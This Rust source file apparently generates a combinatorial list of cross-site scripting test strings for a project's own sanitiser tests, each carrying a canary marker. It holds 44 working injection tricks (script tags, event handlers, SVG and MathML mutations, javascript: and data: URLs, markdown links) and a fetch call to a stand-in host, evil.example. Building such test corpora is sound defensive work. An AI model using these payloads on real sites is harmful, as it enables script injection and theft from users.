//! Hostile texts: what somebody types who wants a script of theirs to run on our pages.
//!
//! Rule: each carries `arengoStruck`, so that a browser can tell that it ran. They are made by putting each way of calling
//! into each way of hiding it, so that a new trick is one line. Deliberately absent: tricks of browsers that nobody has.

/// What a script would do.
const CALLS: [&str; 4] = [
    "globalThis.arengoStruck=1",
    "alert(arengoStruck=1)",
    "fetch('//evil.example/?arengoStruck')",
    "document.body.innerHTML='arengoStruck'",
];

/// Where a text breaks out to: `@` stands for the call.
const TRICKS: [&str; 44] = [
    "<script>@</script>",
    "<ScRiPt>@</sCrIpT>",
    "<script src=\"data:text/javascript,@\"></script>",
    "<script\n>@</script\n>",
    "</textarea><script>@</script>",
    "</title><script>@</script>",
    "\"><script>@</script>",
    "'><script>@</script>",
    "--><script>@</script>",
    "]]><script>@</script>",
    "<img src=x onerror=\"@\">",
    "<img src=x onerror=@//",
    "<img/src=x/onerror=@>",
    "<img src=\"x\" onerror='@' alt=\"x\">",
    "<svg onload=\"@\">",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=\"@\" attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:@\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"@\">",
    "<math href=\"javascript:@\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
    "<details open ontoggle=\"@\">x</details>",
    "<body onload=\"@\">",
    "<input autofocus onfocus=\"@\">",
    "<iframe src=\"javascript:@\"></iframe>",
    "<iframe srcdoc=\"<script>@</script>\"></iframe>",
    "<object data=\"javascript:@\"></object>",
    "<embed src=\"javascript:@\">",
    "<form action=\"javascript:@\"><button>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=javascript:@\">",
    "<base href=\"javascript:@//\">",
    "<link rel=stylesheet href=\"data:text/css,@\">",
    "<style>@import 'data:text/css,x';</style>",
    "<a href=\"javascript:@\">x</a>",
    "<a href=\"&#106;avascript:@\">x</a>",
    "<a href=\"java\tscript:@\">x</a>",
    "[x](javascript:@)",
    "[x](JaVaScRiPt:@)",
    "[x](&#x6A;avascript:@)",
    "[x](data:text/html;base64,PHNjcmlwdD5hcmVuZ29TdHJ1Y2s9MTwvc2NyaXB0Pg==)",
    "![x](javascript:@)",
    "![x\" onerror=\"@](x)",
    "<javascript:@>",
    "`</code><script>@</script>`",
];

/// How the whole is wrapped, so that another part of the way to a page sees it first.
const WRAPS: [fn(&str) -> String; 6] = [
    |text| text.to_owned(),
    |text| format!("Buongiorno {text} e grazie"),
    |text| format!("**{text}**"),
    |text| format!("> {text}"),
    |text| format!("- {text}\n- {text}"),
    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
];

/// Every call in every trick in every wrap.
pub fn texts() -> Vec<String> {
    let mut texts = Vec::with_capacity(CALLS.len() * TRICKS.len() * WRAPS.len());
    for wrap in WRAPS {
        for trick in TRICKS {
            texts.extend(CALLS.iter().map(|call| wrap(&trick.replace('@', call))));
        }
    }
    texts
}
